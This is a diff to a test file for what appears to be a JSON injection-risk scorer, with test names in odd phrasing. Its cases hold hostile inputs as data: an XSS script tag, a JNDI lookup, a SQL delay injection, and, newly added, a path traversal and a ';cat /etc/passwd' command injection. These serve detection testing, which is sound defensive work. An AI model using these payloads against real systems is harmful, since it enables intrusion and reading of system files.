@@ -44,6 +44,7 @@ describe('members that say what they hold', () => {
     ['a message beside the signs of a log', [{ ddsource: 'java', message: STATEMENT }]],
     ['a level and a time', { level: 'error', time: '2026-03-12T10:00:00Z', msg: TRACE }],
     ['an event inside of its envelope', { sourcetype: '_json', event: { msg: STATEMENT } }],
+    ['a statement by its verb', { statement: STATEMENT }],
     ['a query that is stored', { name: 'monthly', sql: STATEMENT }],
     ['a sample of a report', { 'csp-report': { 'script-sample': 'javascript:void(0)' } }],
   ])('%s', (_, value) => {
@@ -59,6 +60,8 @@ describe('members that say what they hold', () => {
     ['markup in a log', [{ '@timestamp': 'x', message: '<script>alert(1)</script>' }]],
     ['a lookup in a log', [{ '@timestamp': 'x', message: '${jndi:ldap://x.example/a}' }]],
     ['what waits in a statement', { sql: "1; waitfor delay '0:0:5'--" }],
+    ['a statement of account', { statement: '../../../../etc/passwd' }],
+    ['a command where a statement of account is named', { statement: ';cat /etc/passwd' }],
     ['what stands beside a log', { ddsource: 'java', message: 'x', user: BREAK }],
   ])('no excuse: %s', (_, value) => {
     expect(scoreOfJson(value)).toBeGreaterThanOrEqual(0.5);
